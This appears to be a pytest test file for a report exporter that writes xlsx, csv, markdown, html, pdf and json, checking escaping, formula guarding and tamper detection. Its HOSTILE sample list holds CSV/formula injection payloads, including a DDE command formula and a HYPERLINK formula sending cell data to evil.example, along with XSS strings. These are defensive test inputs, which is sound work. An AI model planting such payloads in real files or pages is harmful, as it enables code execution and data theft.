"""Every format says everything, keeps every text a text, and notices when it does not."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ml_tui.content import load_catalog
from ml_tui.domain.project import ItemState, Project, ProjectInfo, RowState, Verification
from ml_tui.domain.report import build
from ml_tui.domain.report_parts import Report
from ml_tui.errors import NotWritten, UsageError
from ml_tui.export import FORMATS, ExportDiffers, find_format, produce
from ml_tui.export.csv_ import guarded, unguarded
from ml_tui.export.markdown import escaped, unescaped
from ml_tui.export.xlsx_cells import CELL_LIMIT, pieces, size
from ml_tui.messages import LANGUAGES, Language
from ml_tui.text import clean_text
from tests.unit.report_samples import (
    INFO,
    ITEM_IDS,
    OTHER_MARKERS,
    TODAY,
    hostile_project,
    marked_project,
    markers,
    milestones,
    report_on,
)

HOSTILE = (
    "=1+1",
    "+82-2-1234-5678",
    "-1",
    "@SUM(A1)",
    "＝1＋1",
    "＋82",
    "－1",
    "＠SUM(A1)",
    "\u2212 1",
    "\u3000=1+1",
    "  =1+1",
    "'=1+1",
    "''",
    "#REF!",
    "#N/A",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"여기")',
    '";=1+1',
    "_x000D_",
    "_x005F_x0041_",
    "1e5",
    "2027-03-31",
    "TRUE",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[여기](javascript:alert(1))",
    "a | b \\| c \\\\| d",
    "**굵게** __밑줄__ ~~지움~~ `코드` $수식$",
    "1. 하나",
    "&amp; &#124; &lt;",
    "끝에 역슬래시 \\",
    "\u3000",
    "\u00a0앞뒤 빈칸\u2003",
    "{=1} {{7*7}}",
    "👍🏽 👨‍👩‍👧 가\u0301",
)


def workbook_of(report: Report) -> Any:
    return openpyxl.load_workbook(io.BytesIO(produce(report, "xlsx")))


def column_of(sheet: Any, title: str) -> int:
    (found,) = [cell.column for cell in sheet[1] if cell.value == title]
    return int(found)


def markdown_text(data: bytes) -> str:
    lines = data.decode().replace("<br>", "\n").split("\n")
    return "\n".join(unescaped(line) for line in lines)


def xlsx_text(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)


def html_text(data: bytes) -> str:
    return html.unescape(re.sub("<[^>]*>", "", data.decode()))


def pdf_text(data: bytes) -> str:
    """The text of a PDF, without blanks and breaks, since lines are broken anew in it."""
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed")
    done = subprocess.run(["pdftotext", "-raw", "-", "-"], input=data, capture_output=True, check=True, timeout=60)
    return "".join(done.stdout.decode().split())


READERS: dict[str, Callable[[bytes], str]] = {
    "xlsx": xlsx_text,
    "pdf": pdf_text,
    "html": html_text,
    "md": markdown_text,
    "csv": lambda data: data.decode("utf-8-sig"),
    "json": lambda data: json.dumps(json.loads(data), ensure_ascii=False).replace("\\n", "\n"),
}


def test_every_format_has_a_reader_here() -> None:
    assert set(READERS) == set(FORMATS)


@pytest.mark.parametrize("name", FORMATS)
def test_every_field_of_every_item_is_in_every_format(name: str) -> None:
    text = READERS[name](produce(report_on(marked_project(), past=milestones()), name))
    wanted = [marker for number, item in enumerate(ITEM_IDS, start=10) for marker in markers(item, number)]
    if name != "csv":
        wanted += OTHER_MARKERS
    if name == "pdf":
        wanted = ["".join(marker.split()) for marker in wanted]
    assert [marker for marker in wanted if marker not in text] == []


@pytest.mark.parametrize("name", ["pdf", "html", "md", "csv", "json"])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_goes_through_every_format_unchanged(name: str, text: str) -> None:
    assert clean_text(text) == text
    report = report_on(hostile_project(text))
    assert FORMATS[name].compare(FORMATS[name].render(report), report) == []


@pytest.mark.parametrize("name", FORMATS)
def test_an_empty_project_goes_through_every_format(name: str) -> None:
    report = report_on(Project(ProjectInfo(id="p-1", name="새 프로젝트", created=TODAY)), depth="executive", log=())
    assert FORMATS[name].compare(FORMATS[name].render(report), report) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_holds_no_formula_and_no_error(text: str) -> None:
    book = workbook_of(report_on(hostile_project(text)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    note = book["구현 체크리스트"].cell(2, column_of(book["구현 체크리스트"], "메모"))
    assert note.data_type == "s"
    assert note.quotePrefix
    assert re.sub("_x005F_(?=x[0-9A-Fa-f]{4}_)", "_", note.value) == text


def test_numbers_and_days_in_a_workbook_are_numbers_and_days() -> None:
    book = workbook_of(report_on(marked_project()))
    sheet = book["구현 체크리스트"]
    assert sheet.cell(2, column_of(sheet, "기한")).value == datetime(2027, 5, 10)
    assert sheet.cell(2, column_of(sheet, "충족 내용")).value == 2
    assert book["표지"].cell(8, 2).value == datetime(2027, 3, 31)
    changes = book["변경 이력"]
    assert changes.cell(3, column_of(changes, "일시")).value == datetime(2027, 1, 5, 1, 30)
    assert {cell.number_format for cell in book["절별 현황"]["J"][1:4]} == {"0%"}


def test_a_workbook_is_furnished_for_filling_in_and_for_printing() -> None:
    book = workbook_of(report_on(marked_project()))
    assert book.sheetnames == ["표지", *(table.title for table in report_on(marked_project()).tables)]
    sheet = book["구현 체크리스트"]
    lists = {str(found.sqref): found.formula1 for found in sheet.data_validations.dataValidation}
    assert lists == {"F2:F6": '"미착수,진행 중,구현됨,해당 없음"'}
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("D2", "A1:R6")
    assert [letter for letter, d in sheet.column_dimensions.items() if d.hidden] == ["R"]
    coloured = [rule.formula[0] for ranged in sheet.conditional_formatting for rule in ranged.rules]
    assert coloured == ['"미착수"', '"진행 중"', '"구현됨"', '"해당 없음"']
    for page in book.worksheets:
        assert (page.page_setup.paperSize, page.sheet_properties.pageSetUpPr.fitToPage) == (9, True)
        assert page.oddFooter.right.text == "&P / &N"
    assert [page.print_title_rows for page in book.worksheets[1:]] == ["$1:$1"] * (len(book.sheetnames) - 1)
    assert {page.page_setup.orientation for page in book.worksheets[1:]} == {"landscape"}


def test_a_workbook_says_what_it_was_made_from_and_by_whom_but_not_on_which_account() -> None:
    book = workbook_of(report_on(marked_project()))
    assert (book.properties.title, book.properties.creator, book.properties.lastModifiedBy) == (
        "은행 A",
        "김하늘",
        None,
    )
    told = {found.name: found.value for found in book.custom_doc_props.props}
    assert told == {
        "ml-tui-format": "1",
        "ml-tui-about": "state",
        "ml-tui-project": "p-abc234",
        "ml-tui-catalog": "0123456789abcdef" * 4,
        "ml-tui-language": "ko",
        "ml-tui-revision": 7,
    }


def test_a_text_longer_than_a_cell_goes_on_and_can_be_put_together_again() -> None:
    long = "".join(f"{number:05}번째 문장입니다. 👍 _x0041_\n" for number in range(5000)).strip()
    report = report_on(Project(INFO, {"alpha": ItemState(note=long), "beta": ItemState(plan=long)}))
    book = workbook_of(report)
    sheet, rest = book["구현 체크리스트"], book["긴 글"]
    first = sheet.cell(2, column_of(sheet, "메모")).value
    assert first.endswith("\n[… → 긴 글!F7]")
    assert (rest["A7"].value, rest["B7"].value, rest["C7"].value, rest["D7"].value, rest["E7"].value) == (
        "구현 체크리스트", "K2", "1.1 항목 1.1", "메모", 2,
    )  # fmt: skip
    every = [cell.value for page in book for row in page.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert max(map(size, every)) <= CELL_LIMIT
    rest["F8"].value = rest["F8"].value.replace("문장", "문짱", 1)
    assert FORMATS["xlsx"].compare(saved(book), report) == ["구현 체크리스트!K2"]


def test_a_text_that_only_looks_as_if_it_went_on_stays_what_it_is() -> None:
    long = "가" * 40_000
    project = Project(INFO, {"alpha": ItemState(note="끝\n[… → 긴 글!F2]"), "beta": ItemState(note=long)})
    report = report_on(project)
    assert FORMATS["xlsx"].compare(FORMATS["xlsx"].render(report), report) == []


def saved(book: Any) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("sheet", "cell", "value"),
    [
        ("구현 체크리스트", "K2", "다른 메모"),
        ("구현 체크리스트", "K2", "=1+1"),
        ("구현 체크리스트", "K2", None),
        ("구현 체크리스트", "N3", datetime(2027, 5, 12)),
        ("구현 체크리스트", "A9", "남는 행"),
        ("절별 현황", "B2", 4),
        ("표지", "B4", "다른 프로젝트"),
        ("구성 요소 매핑", "F1", "다른 제목"),
    ],
)
def test_a_cell_that_was_tampered_with_is_named(sheet: str, cell: str, value: Any) -> None:
    report = report_on(marked_project())
    book = workbook_of(report)
    book[sheet][cell] = value
    assert FORMATS["xlsx"].compare(saved(book), report) == [f"{sheet}!{cell}"]


def test_a_missing_sheet_is_named() -> None:
    report = report_on(marked_project())
    book = workbook_of(report)
    del book["변경 이력"]
    assert FORMATS["xlsx"].compare(saved(book), report) == ["변경 이력"]


@pytest.mark.parametrize(
    ("name", "old", "new", "place"),
    [
        ("csv", "메모-beta", "매모-beta", "구현 체크리스트 3:메모"),
        ("csv", '"epsilon"\r\n', '"epsilon"\r\n"x"\r\n', "구현 체크리스트"),
        ("json", '"owner": "담당-beta"', '"owner": "담당"', "$.items[1].owner"),
        ("json", '"met": true', '"met": 1', "$.items[0].criteria[0].met"),
        ("md", "둘째 줄-beta", "", "구현 체크리스트 1.2 항목 1.2: 메모"),
        ("md", "| 행 메모-1.1.2 |", "|  |", "구성 요소 매핑 1.1.2: 메모"),
        ("md", "## 구현 내용\n", "## 다른 것\n", "다른 것"),
        ("md", "| 원천   | -> |", "| 원천   |    |", "파이프라인 단계 2 흐름"),
        ("html", "둘째 줄-beta", "", "구현 체크리스트 1.2 항목 1.2: 메모"),
        ("html", "행 메모-1.1.2", "행 매모-1.1.2", "구성 요소 매핑 2: 메모"),
        ("html", 'id="t-criteria"', 'id="t-other"', "구현 내용"),
    ],
)
def test_a_text_file_that_was_tampered_with_is_noticed(name: str, old: str, new: str, place: str) -> None:
    report = report_on(marked_project())
    text = FORMATS[name].render(report).decode()
    assert old in text
    changed = text.replace(old, new, 1).encode()
    assert place in FORMATS[name].compare(changed, report)


@pytest.mark.parametrize("name", ["csv", "json", "md", "html", "pdf"])
def test_bytes_that_are_no_text_are_a_difference_not_a_crash(name: str) -> None:
    assert FORMATS[name].compare(b"\xff\xfe{", report_on(marked_project())) != []


def test_what_differs_is_not_given_out(monkeypatch: pytest.MonkeyPatch) -> None:
    from ml_tui.export import csv_

    monkeypatch.setattr(csv_, "render", lambda report: b"nothing")
    with pytest.raises(ExportDiffers) as caught:
        produce(report_on(marked_project()), "csv")
    assert isinstance(caught.value, NotWritten)
    assert caught.value.places == ["구현 체크리스트"]


def test_an_unknown_format_is_answered_with_those_there_are() -> None:
    with pytest.raises(UsageError) as caught:
        find_format("docx")
    assert "xlsx, pdf, html, md, csv, json" in caught.value.hint


def test_csv_is_what_excel_wants_and_what_it_cannot_run() -> None:
    data = produce(report_on(hostile_project("=1+1")), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fields = dict(zip(lines[0], lines[1], strict=True))
    assert (fields["메모"], fields["담당자"], fields["검증자"]) == ("'=1+1",) * 3
    assert (fields["충족 내용"], fields["전체 내용"], fields["id"]) == ("0", "3", "alpha")
    assert re.fullmatch(rb'("[^"]*",?)+', data[3:].split(b"\r\n")[0])
    assert data.count(b"\r\n") == len(lines)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_csv_field_begins_like_a_formula(text: str) -> None:
    for line in csv.reader(
        io.StringIO(produce(report_on(hostile_project(text)), "csv").decode("utf-8-sig"), newline="")
    ):
        assert [field for field in line if field.lstrip()[:1] in tuple("=+-@＝＋－＠\u2212")] == []


def test_json_is_one_document_with_a_version() -> None:
    document = json.loads(produce(report_on(marked_project()), "json"))
    assert (document["format"], document["version"], document["revision"]) == ("ml-tui-report", 1, 7)
    assert document["project"]["next_review"] == "2027-05-28"
    assert [item["id"] for item in document["items"]] == list(ITEM_IDS)
    assert document["log"][1]["fields"][1]["after"] == ["one", "two"]
    assert document["log"][1]["at"] == "2027-01-04T16:30:00+00:00"


def test_markdown_lets_no_markup_of_users_take_effect() -> None:
    text = produce(report_on(hostile_project("<script>x</script> [a](b) | **c** `d`")), "md").decode()
    assert "<script" not in text
    assert "\\[a\\](b) \\| \\*\\*c\\*\\* \\`d\\`" in text
    assert escaped("https://a.example/b_c?d=1&e") == "https://a.example/b_c?d=1&amp;e"
    assert (escaped("# 제목"), escaped("- 목록"), escaped("12) 열둘"), escaped("  들여쓰기 ")) == (
        "\\# 제목",
        "\\- 목록",
        "12\\) 열둘",
        "&#32;&#32;들여쓰기&#32;",
    )


def test_markdown_has_a_section_for_every_item() -> None:
    text = produce(report_on(marked_project()), "md").decode()
    assert re.findall(r"^### (.+)$", text, re.MULTILINE) == [
        f"{no} 항목 {no}" for no in ("1.1", "1.2", "1.3", "2.1", "2.2")
    ]
    assert "  > 메모-alpha<br>\n  > 둘째 줄-alpha\n" in text


texts = st.text(max_size=80).map(clean_text)
nasty = st.text(alphabet="=+-@'\"|\\`*_[]<>&#;~$!.()1x05F \n가ㅎ👍\u200d＝\u3000", max_size=40).map(clean_text)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(note=texts | nasty, plan=nasty)
def test_any_clean_text_survives_every_format(note: str, plan: str) -> None:
    note, plan = note.strip("\n"), plan.strip("\n")
    report = report_on(Project(INFO, {"alpha": ItemState(note=note, plan=plan)}), log=())
    data = {name: produce(report, name) for name in FORMATS if name != "pdf"}
    lines = list(csv.reader(io.StringIO(data["csv"].decode("utf-8-sig"), newline="")))
    fields = dict(zip(lines[0], lines[1], strict=True))
    assert (unguarded(fields["메모"]), unguarded(fields["계획"])) == (note, plan)
    item = json.loads(data["json"])["items"][0]
    assert (item["note"], item["plan"]) == (note, plan)
    sheet = openpyxl.load_workbook(io.BytesIO(data["xlsx"]))["구현 체크리스트"]
    stored = str(sheet.cell(2, column_of(sheet, "메모")).value or "")
    assert re.sub("_x005F_(?=x[0-9A-Fa-f]{4}_)", "_", stored) == note


@given(nasty | st.text().map(clean_text))
def test_escapes_can_be_undone(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert [unescaped(escaped(line)) for line in text.split("\n")] == text.split("\n")
    assert "".join(pieces(text)) == text


def test_days_at_the_edges_survive_a_workbook() -> None:
    for day in (date(1900, 1, 1), date(1900, 2, 28), date(1900, 3, 1), date(9999, 12, 31)):
        report = report_on(Project(INFO, {"alpha": ItemState(due=day, verified=Verification("박서준", day))}), log=())
        assert FORMATS["xlsx"].compare(FORMATS["xlsx"].render(report), report) == [], day


def test_charts_of_a_workbook_are_drawn_from_its_cells() -> None:
    with zipfile.ZipFile(io.BytesIO(produce(report_on(marked_project(), past=milestones()), "xlsx"))) as archive:
        charts = [archive.read(name).decode() for name in archive.namelist() if "/charts/chart" in name]
    cells = [set(re.findall(r"<(?:c:)?f>([^<]+)</", chart)) for chart in charts]
    assert cells[0] >= {"'절별 현황'!$C$2:$C$3", "'절별 현황'!$A$2:$A$3"}
    assert cells[1] >= {"'추이'!$F$2:$F$4", "'추이'!$G$2:$G$4", "'추이'!$B$2:$B$4"}
    without = produce(report_on(marked_project()), "xlsx")
    with zipfile.ZipFile(io.BytesIO(without)) as archive:
        assert len([name for name in archive.namelist() if "/charts/chart" in name]) == 1


def test_a_workbook_is_a_sound_archive() -> None:
    with zipfile.ZipFile(io.BytesIO(produce(report_on(marked_project()), "xlsx"))) as archive:
        assert archive.testzip() is None
        assert "docProps/custom.xml" in archive.namelist()


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("name", FORMATS)
def test_the_built_in_catalog_goes_through_every_format(name: str, language: Language) -> None:
    loaded = load_catalog()
    items = {item.id: ItemState(note=item.meaning.ko, plan=item.good.en) for item in loaded.catalog.items()}
    rows = {row.no: RowState(True, "https://portal.example/a_b", row.meaning.ko) for row in loaded.catalog.rows}
    report = build(
        loaded.catalog, Project(INFO, items, rows), language=language, revision=1, digest=loaded.digest, today=TODAY
    )
    assert FORMATS[name].compare(FORMATS[name].render(report), report) == []
